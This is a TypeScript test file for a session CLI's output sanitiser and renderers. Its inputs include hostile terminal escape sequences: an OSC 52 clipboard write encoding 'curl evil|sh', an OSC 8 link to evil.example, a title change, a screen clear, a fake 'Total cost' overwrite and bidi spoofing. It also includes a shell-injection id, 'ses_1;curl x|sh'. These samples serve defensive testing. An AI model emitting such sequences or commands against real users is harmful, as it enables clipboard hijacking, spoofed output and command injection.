/**
 * Issue 20 item 5, in process: the sanitising functions by property (no control character in
 * what they give, for any input; JSON parses back to the same value; hostile.test.ts has `sh`
 * read shell words back), and the live view, plain lines and NDJSON fed every kind of escape sequence
 * (OSC 52, OSC 8, a title change, a screen clear, a carriage return over "Total cost", C1, bidi).
 */
import { assert, describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as FastCheck from "effect/FastCheck"
import * as Option from "effect/Option"
import * as Render from "../src/Render.js"
import * as Sanitize from "../src/Sanitize.js"
import type { Outcome } from "effect-agent-session/AgentSessions"
import { ActionSessionId, SessionId } from "effect-agent-session/Session"
import type * as SessionEvent from "effect-agent-session/SessionEvent"

/** Every code point a terminal may act on, the newline included. */
const forbidden = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u
const forbiddenButNewline = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u

const dangerous = [
  "\x1b",
  "\x07",
  "\r",
  "\n",
  "\t",
  "\x00",
  "\x7f",
  "\u0085",
  "\u009b",
  "\u009d",
  "\u009c",
  "\u202e",
  "\u2066",
  "\u200f",
  "\u2028",
  "\\",
  "'",
  "]",
  "[",
  ";"
]
/** Strings rich in control characters, escape sequences and any Unicode. */
const text = FastCheck.array(FastCheck.oneof(FastCheck.fullUnicode(), FastCheck.constantFrom(...dangerous)), { maxLength: 40 })
  .map((parts) => parts.join(""))

describe("Sanitize (properties)", () => {
  it.prop("line: no control character, no newline; applying it again changes nothing", [text], ([s]) => {
    const out = Sanitize.line(s)
    assert.notMatch(out, forbidden)
    assert.strictEqual(Sanitize.line(out), out)
  })

  it.prop("block: no control character but the newlines, one per newline of the input; idempotent", [text], ([s]) => {
    const out = Sanitize.block(s)
    assert.notMatch(out, forbiddenButNewline)
    assert.strictEqual(out.split("\n").length, s.replace(/\r\n/g, "\n").split("\n").length)
    assert.strictEqual(Sanitize.block(out), out)
  })

  it.prop(
    "json: no control character at all, and it parses back to the same value",
    [FastCheck.array(FastCheck.record({ s: text, n: FastCheck.integer(), k: FastCheck.dictionary(text, text, { maxKeys: 3 }) }), {
      maxLength: 4
    })],
    ([value]) => {
      const out = Sanitize.json(value)
      assert.notMatch(out, forbidden)
      assert.deepStrictEqual(JSON.parse(out), value)
    }
  )

  it("shellWord leaves a plain id bare and quotes the rest", () => {
    expect(Sanitize.shellWord("ses_UqaPLuyA6MfcvqOp")).toBe("ses_UqaPLuyA6MfcvqOp")
    expect(Sanitize.shellWord("ses_1;curl x|sh")).toBe("'ses_1;curl x|sh'")
    expect(Sanitize.shellWord("it's")).toBe(`'it'\\''s'`)
    expect(Sanitize.shellWord("")).toBe("''")
    expect(Sanitize.shellWord("=ls")).toBe("'=ls'")
  })
})

const hostile = {
  osc52: "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
  osc8: "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
  title: "\x1b]2;pwned\x1b\\",
  clear: "\x1b[2J\x1b[3J\x1b[H",
  overwrite: "\r\x1b[KTotal cost: 0.00",
  c1: "\u009b2J\u009d0;t\u009c",
  bidi: "\u2067\u202etxt.exe\u2069"
}
const all = Object.values(hostile).join(" ")

/** The live view's own codes: the only escape sequences it may write. */
const ownCodes = /\x1b\[\?25[lh]|\x1b\[J|\x1b\[\d+F|\x1b\[(?:1|2|22|31|32|33|36|39|0)m/g

const capture = () => {
  let out = ""
  let err = ""
  const sink = Render.sinkOf({ out: (t) => void (out += t), err: (t) => void (err += t), columns: () => 100 })
  return { sink, out: () => out, err: () => err }
}

const events: ReadonlyArray<SessionEvent.SessionEvent> = [
  { _tag: "Started", sessionId: SessionId.make("ses_1"), start_url: `https://example.com/${hostile.osc8}` },
  { _tag: "BrowserStarted", url: hostile.title, action_session_id: ActionSessionId.make("as_1") },
  { _tag: "ThoughtsAndMemories", thought: hostile.osc52, memory: "" },
  { _tag: "ActionRun", name: hostile.clear, action_session_id: ActionSessionId.make("as_1"), content: hostile.overwrite },
  { _tag: "AgentError", error: `${hostile.bidi} ${hostile.c1}` },
  {
    _tag: "ExternalResourceRequested",
    resource_type: { _tag: "Unrecognized", raw: hostile.title },
    reason: all,
    action_session_id: ActionSessionId.make("as_2"),
    field_name: Option.some(hostile.osc8)
  },
  { _tag: "Unrecognized", event: hostile.title, payload: { all } }
] as unknown as ReadonlyArray<SessionEvent.SessionEvent>

const complete = {
  _tag: "Complete",
  response: `done\n${hostile.overwrite}\n${all}`,
  type: { _tag: "Unrecognized", raw: hostile.clear },
  total_cost: Option.some(0.5),
  cost_summary: Option.none(),
  session_id: SessionId.make("ses_1")
} as unknown as SessionEvent.Complete

const outcome: Outcome = {
  sessionId: SessionId.make("ses_1"),
  response: complete.response,
  type: complete.type,
  totalCost: Option.some(0.5),
  actions: 1,
  maxActions: 3,
  events: [],
  complete,
  budgetExceeded: Option.none()
}

/** Feeds every hostile event, a reconnect whose reason is hostile, a note, the outcome and a failure. */
const feed = (reporter: Render.Reporter, progress: Render.Progress) =>
  Effect.gen(function*() {
    yield* reporter.status(`creating session at ${hostile.title}...`, progress)
    yield* reporter.created(`ses_${hostile.osc52}`, progress)
    for (const event of events) {
      Render.track(progress, event)
      yield* reporter.event(event, progress)
    }
    yield* reporter.state({ _tag: "Reconnecting", attempt: 1, lastError: hostile.overwrite } as never, progress)
    yield* reporter.note(`not answered: ${hostile.osc52}`, progress)
    yield* reporter.outcome(outcome, progress)
    yield* reporter.failure(`the service said ${all}`, "ServerError", 8, progress)
  })

describe("the renderers fed escape sequences in every service string", () => {
  it.effect("live view (colours on): only its own codes; the service's are shown escaped", () =>
    Effect.gen(function*() {
      const { err, out, sink } = capture()
      yield* feed(Render.live(sink, { color: true }), Render.makeProgress(3))
      const shown = out().replace(ownCodes, "")
      assert.notMatch(shown, forbiddenButNewline)
      assert.notMatch(err(), forbiddenButNewline)
      expect(shown.match(/^Total cost: .*$/gm)).toEqual(["Total cost: 0.5"])
      expect(shown).toContain("\\x1b]52;c;Y3VybCBldmlsfHNo\\x07")
      expect(shown).toContain("\\x1b[2J")
    }))

  it.effect("plain lines and NDJSON: no control character at all but newlines", () =>
    Effect.gen(function*() {
      const plain = capture()
      yield* feed(Render.plain(plain.sink, { statusNotes: true }), Render.makeProgress(3))
      assert.notMatch(plain.out(), forbiddenButNewline)
      assert.notMatch(plain.err(), forbiddenButNewline)
      expect(plain.out().match(/^Total cost: .*$/gm)).toEqual(["Total cost: 0.5"])
      const json = capture()
      yield* feed(Render.json(json.sink), Render.makeProgress(3))
      assert.notMatch(json.out(), forbiddenButNewline)
      for (const line of json.out().trimEnd().split("\n")) JSON.parse(line)
    }))

  it.effect("a sink's out and err escape whatever they are given; draw is the live view's own", () =>
    Effect.sync(() => {
      const { err, out, sink } = capture()
      sink.out(all + "\n")
      sink.err(all + "\n")
      assert.notMatch(out(), forbiddenButNewline)
      assert.notMatch(err(), forbiddenButNewline)
    }))
})

describe("issue 20 item 7 (in process): what an interruption says", () => {
  it.effect("while the create request waits: a session may exist, with its Idempotency-Key; no connection closed", () =>
    Effect.gen(function*() {
      const progress = Render.makeProgress(3)
      progress.creating = Option.some("key-123")
      for (const reporter of [Render.plain, (s: Render.Sink) => Render.live(s, { color: false })]) {
        const { out, sink } = capture()
        yield* reporter(sink).interrupted(progress)
        expect(out()).toContain("the create request was sent and not answered")
        expect(out()).toContain("Idempotency-Key: key-123")
        expect(out()).not.toContain("(1000)")
        expect(out()).not.toContain("(not created)")
      }
      const json = capture()
      yield* Render.json(json.sink).interrupted(progress)
      expect(JSON.parse(json.out())).toMatchObject({ kind: "interrupted", sessionMayExist: true, idempotencyKey: "key-123" })
      expect(Render.createNotice("key-123")).toContain("--idempotency-key key-123")
    }))

  it.effect("a session whose channel never opened: no \"connection was closed (1000)\"", () =>
    Effect.gen(function*() {
      const progress = Render.makeProgress(3)
      progress.sessionId = Option.some("ses_1")
      const { out, sink } = capture()
      yield* Render.plain(sink).interrupted(progress)
      expect(out()).not.toContain("(1000)")
      expect(out()).toContain("Session: ses_1")
    }))
})
